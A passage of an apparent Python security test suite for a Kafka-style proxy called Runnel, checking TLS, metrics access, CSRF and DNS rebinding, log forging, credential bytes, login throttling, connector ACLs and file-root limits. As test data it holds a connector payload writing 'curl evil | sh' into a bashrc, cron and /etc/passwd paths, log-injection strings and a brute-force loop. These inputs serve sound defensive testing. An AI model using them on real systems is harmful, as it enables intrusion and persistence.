    except (requests.exceptions.SSLError, requests.exceptions.ConnectionError, ssl.SSLError, ConnectionError,
            OSError):
        return
    raise AssertionError(f"{what}: expected a TLS failure, got {result!r}")


def test_tls():
    """TLS only; TLS_PLAINTEXT (plaintext from loopback only); mutual TLS; SIGHUP reloads the certificate; TLS 1.1
    is refused. The CLI trusts a CA with --ca-cert (RUNNEL_CA_CERT)."""
    with Sandbox() as box:
        address = non_loopback_address()
        first = Certificates(box, "first", "0.0.0.0", *([address] if address else []))
        cert, key = box.path("server.pem"), box.path("server-key.pem")
        first.write_server(cert, key)
        tls_flags = ["--tls-cert", cert, "--tls-key", key]

        # Flags that do not fit together are refused.
        bad = runnel("serve", "--data-dir", box.path("bad"), "--proxy-port", "0", "--connect-port", "0",
                     "--auth", "off", "--client-encryption", "TLS", check=False)
        assert bad.returncode != 0 and "--tls-cert" in bad.err + bad.out, bad.err + bad.out
        bad = runnel("serve", "--data-dir", box.path("bad"), "--proxy-port", "0", "--connect-port", "0",
                     "--auth", "off", "--client-encryption", "PLAINTEXT", *tls_flags, check=False)
        assert bad.returncode != 0, bad.err + bad.out

        # TLS only (the default with a certificate), with authentication.
        data = box.path("tls")
        admin = offline_key(data, super_user=True, description="admin")
        A = creds(admin)
        server = box.server("tls", extra=["--auth", "required", *tls_flags], auth=A, verify=first.ca_path)
        line = listening_line(server.log_text())
        assert "encryption=TLS " in line + " " and "auth=required" in line, line
        assert server.url.startswith("https://") and server.connect.startswith("https://"), line
        assert "dashboard=https://" in line, line
        expect(call("GET", server.v3 + "/topics", A, verify=first.ca_path), 200)
        expect(call("GET", server.connect + "/connectors", A, verify=first.ca_path), 200)
        expect(call("GET", server.url + "/connect/connectors", A, verify=first.ca_path), 200)
        expect_401(call("GET", server.v3 + "/topics", verify=first.ca_path), 40101)
        expect_tls_failure("https without trusting the CA", lambda: call("GET", server.v3 + "/topics", A))
        for url in (server.url, server.connect):
            plain = url.replace("https://", "http://")
            try:
                response = call("GET", plain + "/v3/clusters", A)
                assert not 200 <= response.status_code < 300 and server.cluster not in response.text, \
                    f"plaintext served on a TLS-only port: {response.status_code} {response.text[:200]}"
            except requests.exceptions.ConnectionError:
                pass
        # The CLI: --ca-cert, RUNNEL_CA_CERT; without either it fails (the system does not trust the CA).
        env = env_for(server, admin)
        runnel("topic", "create", "over-tls", "--ca-cert", first.ca_path, env=env)
        assert "over-tls" in runnel("topic", "list", env={**env, "RUNNEL_CA_CERT": first.ca_path}).out
        connectors = runnel("connector", "list", "--ca-cert", first.ca_path, "--connect-url", server.connect, env=env)
        assert connectors.returncode == 0
        untrusted = runnel("topic", "list", env=env, check=False)
        assert untrusted.returncode != 0 and untrusted.err.strip(), untrusted.err
        # TLS 1.2 and 1.3 are taken; TLS 1.1 is not.
        v12 = ssl.create_default_context(cafile=first.ca_path)
        v12.maximum_version = ssl.TLSVersion.TLSv1_2
        assert handshake(port_of(server.url), v12)[0] == "TLSv1.2"
        v13 = ssl.create_default_context(cafile=first.ca_path)
        v13.minimum_version = ssl.TLSVersion.TLSv1_3
        assert handshake(port_of(server.url), v13)[0] == "TLSv1.3"
        old = tls11_client()
        if old is None:
            print("note: this OpenSSL cannot speak TLS 1.1; that check is skipped", file=sys.stderr)
        else:
            for url in (server.url, server.connect):
                expect_tls_failure(f"TLS 1.1 to {url}", lambda: handshake(port_of(url), old))

        # SIGHUP: a certificate from a second CA, written over the files, is used by the next connections.
        second = Certificates(box, "second", "0.0.0.0", *([address] if address else []))
        second.write_server(cert, key)
        server.process.send_signal(signal.SIGHUP)
        wait_for(lambda: "TLS certificate reloaded" in server.log_text(), 20, "the reload's log line")
        for url in (server.url, server.connect):
            expect(call("GET", url + "/openapi.yaml", A, verify=second.ca_path), 200,
                   what="the new certificate after SIGHUP")
            expect_tls_failure("the old CA after SIGHUP", lambda: call("GET", url + "/openapi.yaml", A,
                                                                     verify=first.ca_path))
        # A broken file: the reload fails, said so, and the previous certificate stays.
        with open(cert, "w") as file:
            file.write("not a certificate\n")
        server.process.send_signal(signal.SIGHUP)
        wait_for(lambda: "TLS certificate reload failed" in server.log_text(), 20, "the failed reload's log line")
        expect(call("GET", server.v3 + "/topics", A, verify=second.ca_path), 200, what="after a failed reload")
        assert server.process.poll() is None
        second.write_server(cert, key)
        server.stop()

        # TLS_PLAINTEXT on every address: TLS from anyone, plaintext from loopback only.
        data = box.path("mixed")
        admin = offline_key(data, super_user=True)
        A = creds(admin)
        server = box.server("mixed", extra=["--host", "0.0.0.0", "--client-encryption", "TLS_PLAINTEXT",
                                            *tls_flags], auth=A, verify=second.ca_path)
        line = listening_line(server.log_text())
        assert "encryption=TLS_PLAINTEXT" in line and "auth=required" in line and "https://" in line, line
        for url in (server.url, server.connect):
            port = port_of(url)
            expect(call("GET", f"https://127.0.0.1:{port}/openapi.yaml", A, verify=second.ca_path), 200)
            expect(call("GET", f"http://127.0.0.1:{port}/openapi.yaml", A), 200, what="plaintext from loopback")
            expect_401(call("GET", f"http://127.0.0.1:{port}/openapi.yaml"),
                       401 if url == server.connect else 40101, "plaintext from loopback still authenticates")
            if address:
                expect(call("GET", f"https://{address}:{port}/openapi.yaml", A, verify=second.ca_path), 200,
                       what="TLS from a non-loopback address")
                answer, closed = plaintext_exchange(address, port)
                head, _, body = answer.partition(b"\r\n\r\n")
                assert head.startswith(b"HTTP/1.1 400"), answer[:300]
                assert b"https" in body.lower() and json.loads(body.decode()), answer[:300]
                assert closed, "the connection stayed open after the 400"
                assert server.cluster.encode() not in answer
        if not address:
            print("note: no non-loopback address; the plaintext-from-elsewhere check is skipped", file=sys.stderr)
        server.stop()

        # Mutual TLS: a client certificate from the client CA, or no handshake.
        clients = trustme.CA()
        client_ca = box.path("client-ca.pem")
        clients.cert_pem.write_to_path(client_ca)
        client = clients.issue_cert("client@example.com")
        client_pem = box.path("client.pem")
        client.private_key_and_cert_chain_pem.write_to_path(client_pem)
        stranger = trustme.CA().issue_cert("stranger@example.com")
        stranger_pem = box.path("stranger.pem")
        stranger.private_key_and_cert_chain_pem.write_to_path(stranger_pem)
        data = box.path("mutual")
        admin = offline_key(data, super_user=True)
        A = creds(admin)
        # (The harness's first request has no client certificate, so the server is started by hand here.)
        mutual_flags = ["--auth", "required", *tls_flags, "--tls-client-ca", client_ca]
        process = subprocess.Popen([RUNNEL, "serve", "--data-dir", data, "--proxy-port", "0", "--connect-port", "0",
                                    *mutual_flags], stdout=subprocess.DEVNULL, stderr=open(data + ".log", "w"))
        try:
            text = wait_for(lambda: (lambda t: t if "Runnel is listening" in t or process.poll() is not None
                                     else None)(open(data + ".log").read()), 60, "the mutual TLS server")
            line = listening_line(text)
            assert line, text[-2000:]
            proxy = re.search(r"proxy=(https://\S+)", line).group(1)
            connect = re.search(r"connect=(https://\S+)", line).group(1)
            for url in (proxy, connect):
                expect(call("GET", url + "/openapi.yaml", A, verify=second.ca_path, cert=client_pem), 200,
                       what="mutual TLS with a client certificate")
                expect_tls_failure("mutual TLS without a client certificate",
                                   lambda: call("GET", url + "/openapi.yaml", A, verify=second.ca_path))
                expect_tls_failure("mutual TLS with a certificate from another CA",
                                   lambda: call("GET", url + "/openapi.yaml", A, verify=second.ca_path,
                                                cert=stranger_pem))
            # A client certificate does not replace the API key.
            expect_401(call("GET", proxy + "/v3/clusters", verify=second.ca_path, cert=client_pem), 40101)
        finally:
            process.terminate()
            process.wait(timeout=60)

        for path, content in data_files(box.root):
            if path.endswith(".log"):
                assert admin["secret"].encode() not in content, f"a secret in {path}"


# MARK: - /metrics


def test_metrics_auth():
    """/metrics needs credentials (and DESCRIBE on the cluster) on both ports by default; with --open-metrics it is
    served to anyone while every other route still needs a key. Near-miss paths are not opened with it."""
    with Sandbox() as box:
        data = box.path("closed")
        admin = offline_key(data, super_user=True)
        watcher = offline_key(data, description="prometheus")
        A, W = creds(admin), creds(watcher)
        server = box.server("closed", extra=["--auth", "required"], auth=A)
        for url, code in ((server.url, 40101), (server.connect, 401)):
            expect_401(call("GET", url + "/metrics"), code, "metrics without credentials")
            expect(call("GET", url + "/metrics", W), 403, what="metrics without DESCRIBE on the cluster")
            response = call("GET", url + "/metrics", A)
            expect(response, 200, what="metrics as a super user")
            assert response.headers["Content-Type"].startswith("text/plain") and "# TYPE" in response.text
        add_acl(server, A, acl(watcher["principal"], "DESCRIBE", "CLUSTER", "kafka-cluster"))
        expect(call("GET", server.url + "/metrics", W), 200, what="metrics with DESCRIBE on the cluster")
        expect(call("GET", server.connect + "/metrics", W), 200, what="metrics with DESCRIBE on the cluster")
        server.stop()

        data = box.path("open")
        admin = offline_key(data, super_user=True)
        A = creds(admin)
        server = box.server("open", extra=["--auth", "required", "--open-metrics"], auth=A)
        for url, code in ((server.url, 40101), (server.connect, 401)):
            response = call("GET", url + "/metrics")
            expect(response, 200, what="open metrics without credentials")
            assert "# TYPE" in response.text
            # A wrong secret does not matter on the open path (a scraper with stale credentials).
            expect(call("GET", url + "/metrics", ("NOSUCHKEY0000000", "x")), 200, what="open metrics, wrong key")
            # Paths near /metrics are not opened with it (sent on a raw socket, as written: HTTP clients tidy them).
            for path in ("/", "/openapi.yaml", "/metrics/", "/metrics/x", "//metrics", "/Metrics", "/metrics%2F",
                         "/%6Detrics", "/metrics/../topics", "/metrics/..%2Ftopics", "/metrics/../connectors"):
                answer, _ = plaintext_exchange("127.0.0.1", port_of(url), path, close=True)
                head, _, body = answer.partition(b"\r\n\r\n")
                assert head.startswith(b"HTTP/1.1 401") and json.loads(body)["error_code"] == code, (
                    f"{url}{path} without credentials under --open-metrics: {answer[:300]!r}")
            # Another method on the open path: refused (405 names only GET).
            response = call("POST", url + "/metrics")
            assert response.status_code in (401, 405) and "# TYPE" not in response.text, response.text
        expect_401(call("GET", server.v3 + "/topics"), 40101)
        expect_401(call("GET", server.connect + "/connectors"), 401)
        expect_401(call("GET", server.url + "/ui"), 40101)
        expect_401(call("GET", server.url + "/ui/api/overview"), 40101)
        expect_401(call("GET", server.url + "/connect/connectors"), 401)
        assert "auth=required" in listening_line(server.log_text())


# MARK: - Dashboard data


def test_dashboard_data():
    """The dashboard's data (/ui/api/*) needs DESCRIBE on the cluster, and then shows only the topics the key may
    describe, like the REST APIs' lists: no name, size or traffic of any other."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True)
        viewer = offline_key(data, description="dashboard viewer")
        A, V = creds(admin), creds(viewer)
        server = box.server(extra=["--auth", "required"], auth=A)
        for topic in ("hiddentopic", "shown"):
            create_topic(server, A, topic)
            expect(produce_v2(server, A, topic, [{"n": i} for i in range(3)]), 200)
            expect(read_v3(server, A, topic), 200)
        for path in ("/ui/api/overview", "/ui/api/partitions", "/ui/api/series", "/ui/api/templates"):
            expect(call("GET", server.url + path, V), 403, 40301, f"{path} without DESCRIBE on the cluster")
        expect(call("GET", server.url + "/ui/app.js", V), 200, what="a static asset needs only authentication")
        add_acl(server, A, acl(viewer["principal"], "DESCRIBE", "CLUSTER", "kafka-cluster"),
                acl(viewer["principal"], "DESCRIBE", name="shown"))

        def series_has_topics():
            body = call("GET", server.url + "/ui/api/series", A).json()
            return body if "hiddentopic" in json.dumps(body) and "shown" in json.dumps(body) else None
        wait_for(series_has_topics, 30, "the traffic sampler to see both topics (as the admin)")
        for path in ("/ui/api/overview", "/ui/api/partitions", "/ui/api/series"):
            mine = call("GET", server.url + path, V)
            expect(mine, 200, what=path)
            assert "hiddentopic" not in mine.text, f"{path} shows a topic the key may not describe: {mine.text[:600]}"
        assert "shown" in call("GET", server.url + "/ui/api/partitions", V).text



# MARK: - Audit lines


def test_audit_lines():
    """An audit line cannot be forged: the key id of a failed authentication is the caller's text, and a line break
    (or carriage return) in it must not start a line of the server's log."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True)
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        forged = "FORGED notice runnel.audit= host=10.0.0.1 principal=User.ADMIN [runnel] Access granted"
        for username in ("ABC\n" + forged, "ABC\r\n" + forged, "ABC\r" + forged):
            header = "Basic " + base64.b64encode((username + ":secret").encode()).decode()
            expect_401(call("GET", server.v3 + "/topics", headers={"Authorization": header}), 40101)
        wait_for(lambda: len(audit_lines(server, "Authentication failed")) >= 3, 10, "three audit lines")
        with open(server.log_path, "rb") as file:
            log = file.read()
        lines = log.split(b"\n")
        assert not [line for line in lines if line.startswith(b"FORGED")], \
            "a caller's text started a line of the log:\n" + "\n".join(
                repr(line) for line in lines if b"FORGED" in line)
        assert b"\r" not in log, [line for line in lines if b"\r" in line]


# MARK: - Browsers: request forgery and DNS rebinding


FORMS = [
    ("text/plain", lambda body: json.dumps(body)),
    ("application/x-www-form-urlencoded", lambda body: "x=" + urllib.parse.quote(json.dumps(body))),
    ("multipart/form-data; boundary=b", lambda body: "--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n"
                                                  + json.dumps(body) + "\r\n--b--\r\n"),
]


def raw_request(url, method, path, headers, body=b""):
    """One request as a browser (or an attacker's page) would send it, on a raw socket: (status, headers, body)."""
    host, port = url.split("://")[1].split(":")
    head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    head += f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    with socket.create_connection((host, int(port)), timeout=TIMEOUT) as connection:
        # Sent while the answer is read: a server that refuses a huge head answers before reading all of it.
        def send():
            try:
                connection.sendall(head.encode() + body)
            except OSError:
                pass
        sender = threading.Thread(target=send)
        sender.start()
        answer = b""
        while True:
            try:
                piece = connection.recv(65536)
            except ConnectionResetError:
                break
            if not piece:
                break
            answer += piece
        sender.join()
    head, _, payload = answer.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    fields = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        fields[name.strip().lower()] = value.strip()
    return int(lines[0].split(" ")[1]), fields, payload


def test_browser_forgery():
    """What a web page can make a developer's browser send, in the default mode (loopback, no authentication):
    form, text and multipart bodies to every state-changing route (415), any request with another Origin or from
    another site (403), a Host that is not this server's (DNS rebinding: 403, unless --allowed-hosts names it).
    The attack of the report (a FileStreamSource and FileStreamSink writing attacker text into a file) leaves no
    connector and no file. The dashboard's own calls still work, and its page sends a Content-Security-Policy."""
    with Sandbox() as box:
        server = box.server(extra=["--allowed-hosts", "runnel.test"])
        target = box.path("bashrc")
        later = Later()
        attack = [
            ("POST", server.connect, "/connectors", {"name": "in", "config": {
                "connector.class": "FileStreamSource", "file": box.path("evil.txt"), "topic": "evil"}}),
            ("POST", server.url, "/connect/connectors", {"name": "out", "config": {
                "connector.class": "FileStreamSink", "file": target, "topics": "evil",
                "transforms": "i", "transforms.i.type": "org.apache.kafka.connect.transforms.InsertField$Value",
                "transforms.i.static.field": "x", "transforms.i.static.value": "curl evil | sh"}}),
            ("POST", server.url, "/security/api-keys", {"super_user": True}),
            ("POST", server.v3, "/topics", {"topic_name": "forged"}),
            ("POST", server.url, "/topics/forged", {"records": [{"value": 1}]}),
            ("PUT", server.connect, "/admin/loggers/root", {"level": "TRACE"}),
        ]
        for method, base, path, body in attack:
            for content_type, encode in FORMS:
                response = call(method, base + path, data=encode(body), headers={"Content-Type": content_type})
                later.expect(response, 415, 415, f"{method} {path} as {content_type}")
            # No Content-Type at all, with a body.
            response = call(method, base + path, data=json.dumps(body).encode(), headers={"Content-Type": None})
            later.expect(response, 415, 415, f"{method} {path} without a Content-Type")
            # The right type, but from a page of another origin.
            response = call(method, base + path, json=body, headers={"Origin": "http://evil.example"})
            connect_format = base == server.connect or path.startswith("/connect/")
            later.expect(response, 403, 403 if connect_format else 40301, f"{method} {path} from another origin")
        # A cross-site form POST exactly as a browser sends it (simple request, no preflight).
        status, _, payload = raw_request(server.connect, "POST", "/connectors", {
            "Host": server.connect.split("://")[1], "Origin": "null", "Sec-Fetch-Site": "cross-site",
            "Sec-Fetch-Mode": "navigate", "Content-Type": "text/plain"},
            json.dumps(attack[0][3]).encode())
        later.check(status in (403, 415), f"a cross-site form POST answered {status}: {payload[:200]}")
        # A body-less POST with no Origin but Sec-Fetch-Site cross-site (a no-cors fetch).
        status, _, _ = raw_request(server.connect, "POST", "/connectors/in/restart", {
            "Host": server.connect.split("://")[1], "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"})
        later.check(status == 403, f"a no-cors cross-site POST answered {status}")
        # DNS rebinding: the page's own host name, now pointing at 127.0.0.1.
        for port_url in (server.url, server.connect):
            port = port_url.rsplit(":", 1)[1]
            status, _, payload = raw_request(port_url, "GET", "/connectors" if port_url == server.connect else "/v3/clusters",
                                             {"Host": f"attacker.example:{port}"})
            later.check(status == 403 and b"--allowed-hosts" in payload, f"a rebound Host answered {status}: {payload[:200]}")
            for host in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}", f"runnel.test:{port}",
                         f"app.localhost:{port}"):
                status, _, payload = raw_request(port_url, "GET", "/", {"Host": host})
                later.check(status == 200, f"Host {host} answered {status}: {payload[:200]}")
        connectors = call("GET", server.connect + "/connectors").json()
        later.check(connectors == [], f"connectors were created: {connectors}")
        later.check(not os.path.exists(target), "the attacker's file was written")
        later.check(call("GET", server.v3 + "/topics/forged").status_code == 404, "a topic was created")

        # The dashboard: same origin, the header it sends; GETs with Sec-Fetch-Site same-origin; a link to /ui
        # from elsewhere (a top-level navigation) still opens it.
        origin = server.url
        page = call("GET", server.url + "/ui", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"})
        later.expect(page, 200, what="a link to the dashboard from another site")
        policy = page.headers.get("Content-Security-Policy", "")
        later.check("frame-ancestors 'none'" in policy and "script-src 'self'" in policy, f"CSP: {policy!r}")
        later.check(page.headers.get("X-Frame-Options") == "DENY", page.headers)
        later.check(page.headers.get("X-Content-Type-Options") == "nosniff", page.headers)
        same = {"Origin": origin, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors",
                "X-Requested-With": "runnel-dashboard"}
        created = call("POST", server.url + "/connect/connectors", headers=same, json={"name": "mine", "config": {
            "connector.class": "FileStreamSink", "file": box.path("mine.txt"), "topics": "t"}})
        later.expect(created, 201, what="the dashboard creating a connector")
        later.expect(call("PUT", server.url + "/connect/connectors/mine/pause", headers=same), 202, what="dashboard pause")
        later.expect(call("DELETE", server.url + "/connect/connectors/mine", headers=same), 204, what="dashboard delete")
        # A browser write without JSON and without the header is refused even from the same origin.
        bare = call("PUT", server.url + "/connect/connectors/mine/pause", headers={"Origin": origin})
        later.expect(bare, 403, 403, "a same-origin write without the dashboard's header")
        later.done()


def test_credential_bytes():
    """A NUL or any other control byte in an API key id or secret is refused (401) before anything is looked up:
    `KEY\0x` is not `KEY` under another name (escaping its DENY ACLs), `SECRET\0…` is not `SECRET`; and no such byte
    reaches the log."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True)
        user = offline_key(data)
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        create_topic(server, creds(admin), "secret-topic")
        add_acl(server, creds(admin), acl("User:*", "READ", name="secret-topic"),
                acl("User:" + user["key"], "READ", name="secret-topic", permission="DENY"))
        expect(read_v3(server, creds(user), "secret-topic"), 403, 40301, "the key's own DENY")
        later = Later()
        for username, password in [
            (user["key"] + "\0x", user["secret"]), (user["key"] + "\0", user["secret"]),
            (user["key"], user["secret"] + "\0trailing"), (user["key"], user["secret"] + "\x7f"),
            (user["key"] + "\x1b[2J", user["secret"]), ("\0" + user["key"], user["secret"]),
            (user["key"] + "\u0085", user["secret"]),
        ]:
            header = "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()
            response = call("GET", f"{server.v3}/topics/secret-topic/partitions/0/records", headers={"Authorization": header},
                            params={"offset": 0})
            later.check(response.status_code in (401, 429), f"{username!r}/{password[-9:]!r}: {response.status_code} {response.text[:200]}")
        later.done()
        wait_for(lambda: audit_lines(server, "Authentication failed"), 10, "audit lines")
        with open(server.log_path, "rb") as file:
            log = file.read()
        assert b"\0" not in log and b"\x1b" not in log, "a control byte reached the log"
        assert b"\\0x" in log or b"\\u{0}" in log or b"\\0" in log, "the NUL is shown escaped"


def test_failed_logins():
    """A flood of wrong secrets for a known key id: past ten failures they are answered 429 with Retry-After (not
    checked, not logged one by one), the right secret of that key and of any other still gets in at once, after a
    restart too, and an unknown key id is answered exactly like a wrong secret."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True)
        victim = offline_key(data)
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        statuses = []
        threads = []
        lock = threading.Lock()

        def attempt(index):
            response = call("GET", server.url + "/v3/clusters", auth=(victim["key"], f"wrong-{index}"))
            with lock:
                statuses.append((response.status_code, response.headers.get("Retry-After"), error_code(response)))

        for index in range(150):
            threads.append(threading.Thread(target=attempt, args=(index,)))
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        counts = {status: sum(1 for s, _, _ in statuses if s == status) for status in {s for s, _, _ in statuses}}
        assert set(counts) <= {401, 429} and counts.get(429, 0) >= 100, counts
        assert all(retry and int(retry) >= 1 for s, retry, code in statuses if s == 429), statuses[:5]
        assert all(code == 429 for s, _, code in statuses if s == 429)
        # The owners are not locked out: the victim's right secret, another key, the admin.
        expect(call("GET", server.url + "/v3/clusters", auth=creds(victim)), 200, what="the victim's own key")
        expect(call("GET", server.url + "/v3/clusters", auth=creds(admin)), 200, what="another key")
        # Failures are not logged one by one.
        assert len(audit_lines(server, "Authentication failed")) <= 20, len(audit_lines(server, "Authentication failed"))
        # After a restart (nothing remembered), the same.
        server.stop()
        server.start()
        for index in range(30):
            call("GET", server.url + "/v3/clusters", auth=(victim["key"], f"again-{index}"))
        expect(call("GET", server.url + "/v3/clusters", auth=creds(victim)), 200, what="the victim after a restart")
        # An unknown id and a wrong secret, from a fresh address budget (a new server), look the same.
        other = box.server(name="other", extra=["--auth", "required"], auth=creds(offline_key(box.path("other"), super_user=True)))
        known = call("GET", other.url + "/v3/clusters", auth=(offline_key(box.path("other"))["key"], "nope"))
        unknown = call("GET", other.url + "/v3/clusters", auth=("NOSUCHKEY0000000", "nope"))
        assert (known.status_code, known.text) == (unknown.status_code, unknown.text), (known.text, unknown.text)


def validate(server, auth, config):
    return call("PUT", f"{server.connect}/connector-plugins/{config['connector.class']}/config/validate", auth,
                json=config)


def validation_errors(response):
    return {c["value"]["name"]: c["value"]["errors"] for c in response.json()["configs"] if c["value"]["errors"]}


def test_connector_acls():
    """CONNECTOR ACLs: a key allowed to manage connectors named `team-*` sees, pauses, resumes, restarts and
    reconfigures those, and no others, with no cluster-wide right; CREATE is needed to create one; logger levels need
    ALTER_CONFIGS on the cluster; the offsets of a sink whose group it may not read are 403, not 500."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True)
        operator = offline_key(data)
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        work = box.path("files")
        os.makedirs(work)
        for name in ("team-sink", "other-sink"):
            response = call("POST", server.connect + "/connectors", creds(admin), json={"name": name, "config": {
                "connector.class": "FileStreamSink", "file": os.path.join(work, name), "topics": "t"}})
            expect(response, 201, what=f"create {name}")
        me = "User:" + operator["key"]
        add_acl(server, creds(admin), acl(me, "ALTER", "CONNECTOR", "team-", "PREFIXED"),
                acl(me, "DESCRIBE", "CONNECTOR", "team-", "PREFIXED"))
        op = creds(operator)
        later = Later()
        later.check(call("GET", server.connect + "/connectors", op).json() == ["team-sink"], "the list is filtered")
        later.expect(call("GET", server.connect + "/connectors/team-sink/status", op), 200, what="status")
        later.expect(call("PUT", server.connect + "/connectors/team-sink/pause", op), 202, what="pause")
        later.expect(call("PUT", server.connect + "/connectors/team-sink/resume", op), 202, what="resume")
        later.expect(call("POST", server.connect + "/connectors/team-sink/restart", op), 204, what="restart")
        later.expect(call("GET", server.connect + "/connectors/other-sink", op), 403, 403, "another connector")
        later.expect(call("PUT", server.connect + "/connectors/other-sink/pause", op), 403, 403, "pause another")
        later.expect(call("DELETE", server.connect + "/connectors/team-sink", op), 403, 403, "delete without DELETE")
        later.expect(call("POST", server.connect + "/connectors", op, json={"name": "team-new", "config": {
            "connector.class": "FileStreamSink", "file": os.path.join(work, "x"), "topics": "t"}}), 403, 403,
            "create without CREATE")
        # The cluster-wide rights it does not have.
        later.expect(call("PUT", server.connect + "/admin/loggers/root", op, json={"level": "TRACE"}), 403, 403, "loggers")
        later.expect(call("POST", server.v3 + "/acls", op, json=acl(me, "ALL", "CLUSTER", "kafka-cluster")), 403, 40301,
                     "granting itself ALL")
        # Offsets of the sink: the group connect-team-sink is not the operator's to describe.
        later.expect(call("GET", server.connect + "/connectors/team-sink/offsets", op), 403, 403, "GET offsets")
        call("PUT", server.connect + "/connectors/team-sink/stop", op)
        later.expect(call("PATCH", server.connect + "/connectors/team-sink/offsets", op, json={"offsets": [
            {"partition": {"kafka_topic": "t", "kafka_partition": 0}, "offset": {"kafka_offset": 0}}]}), 403, 403,
            "PATCH offsets")
        later.expect(call("DELETE", server.connect + "/connectors/team-sink/offsets", op), 403, 403, "DELETE offsets")
        # Logger levels with ALTER_CONFIGS on the cluster (and only then).
        add_acl(server, creds(admin), acl(me, "ALTER_CONFIGS", "CLUSTER", "kafka-cluster"))
        later.expect(call("PUT", server.connect + "/admin/loggers/root", op, json={"level": "DEBUG"}), 200, what="loggers")
        # The CLI names connectors too.
        runnel("acl", "create", "--principal", me, "--operation", "delete", "--connector", "team-", "--prefixed",
               env=env_for(server, admin))
        later.expect(call("DELETE", server.connect + "/connectors/team-sink", op), 204, what="delete with DELETE")

        # The report's key: ALTER and DESCRIBE on the cluster. ALTER on the cluster manages ACLs (as in Kafka), so it
        # can grant itself ALL; even then a connector cannot reach the server's files outside the roots.
        cluster_key = offline_key(data)
        ck = creds(cluster_key)
        add_acl(server, creds(admin), acl("User:" + cluster_key["key"], "ALTER", "CLUSTER", "kafka-cluster"),
                acl("User:" + cluster_key["key"], "DESCRIBE", "CLUSTER", "kafka-cluster"))
        later.expect(call("POST", server.v3 + "/acls", ck, json=acl("User:" + cluster_key["key"], "ALL", "CLUSTER",
                                                                     "kafka-cluster")), 201, what="self-grant")
        for path in (os.path.expanduser("~/.bashrc"), "/etc/cron.d/evil", os.path.join(data, "metadata.db")):
            later.expect(call("POST", server.connect + "/connectors", ck, json={"name": "escape", "config": {
                "connector.class": "FileStreamSink", "file": path, "topics": "t"}}), 400, 400, f"a sink writing {path}")
        later.check(not os.path.exists("/etc/cron.d/evil"), "a file outside the roots was written")
        later.done()


def test_file_roots():
    """Connectors that use the server's files stay inside --connector-file-roots, for every principal (a super user
    too): outside them, through a link or `..` out of them, or at the server's own files (metadata.db, the logs), a
    config is refused, and validation answers the same whether the file exists or not, so it cannot probe."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True)
        allowed = box.path("allowed")
        os.makedirs(allowed)
        os.symlink("/etc", os.path.join(allowed, "escape"))
        server = box.server(extra=["--auth", "required"], auth=creds(admin), file_roots=[allowed])
        a = creds(admin)
        refused = [
            "/etc/passwd", "/etc/no-such-file", os.path.join(allowed, "escape", "passwd"),
            os.path.join(allowed, "..", "data", "metadata.db"), os.path.join(data, "metadata.db"),
            os.path.join(allowed, "escape", "no-such-file"),
        ]
        answers = set()
        for path in refused:
            for config in (
                {"connector.class": "FileStreamSource", "file": path, "topic": "t"},
                {"connector.class": "FileStreamSink", "file": path, "topics": "t"},
                {"connector.class": "io.runnel.connect.sqlite.SqliteSourceConnector",
                 "connection.url": "jdbc:sqlite:" + path, "mode": "bulk", "topic.prefix": "p-"},
            ):
                errors = validation_errors(validate(server, a, config))
                key = "file" if "file" in config else "connection.url"
                assert key in errors, (path, config, errors)
                answers.add(errors[key][0].replace(path, "PATH"))
                created = call("POST", server.connect + "/connectors", a, json={"name": "x", "config": config})
                expect(created, 400, 400, f"create with {path}")
        assert len(answers) == 1, answers  # one answer whatever the reason: nothing to probe with
        for bucket in ("file://" + data, "file:///tmp"):
            errors = validation_errors(validate(server, a, {
                "connector.class": "io.runnel.connect.s3.S3SinkConnector", "topics": "t", "s3.bucket.name": "logs",
                "store.url": bucket, "format.class": "io.confluent.connect.s3.format.json.JsonFormat",
                "flush.size": "1"}))
            assert "store.url" in errors or "s3.bucket.name" in errors, (bucket, errors)
        # Inside the root: accepted.
        response = call("POST", server.connect + "/connectors", a, json={"name": "ok", "config": {
            "connector.class": "FileStreamSink", "file": os.path.join(allowed, "out.txt"), "topics": "t"}})
        expect(response, 201, what="a file inside the root")


def test_low_findings():
    """The rest of the report: a v2 consumer subscribed to a topic its key may not read gets 403 on the read
    (not [] forever); an out-of-range filename.offset.zero.pad.width is refused with its range; the data directory
    is 0700 and its files 0600; an oversized URL or header is answered in the API's error format."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True)
        reader = offline_key(data)
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        create_topic(server, creds(admin), "hidden")
        produce_v2(server, creds(admin), "hidden", [1, 2])
        add_acl(server, creds(admin), acl("User:" + reader["key"], "READ", "GROUP", "g"))
        base = v2_consumer(server, creds(reader), "g", "c")
        expect(v2_post(base + "/subscription", creds(reader), {"topics": ["hidden"]}), 204, what="subscribe")
        response = v2_records(base, creds(reader), timeout=2000)
        expect(response, 403, 40301, "reading a topic the key may not read")
        assert "hidden" in response.json()["message"], response.text

        config = {"connector.class": "io.runnel.connect.s3.S3SinkConnector", "topics": "t", "s3.bucket.name": "b",
                  "format.class": "io.confluent.connect.s3.format.json.JsonFormat", "flush.size": "1",
                  "filename.offset.zero.pad.width": "100000000"}
        errors = validation_errors(validate(server, creds(admin), config))
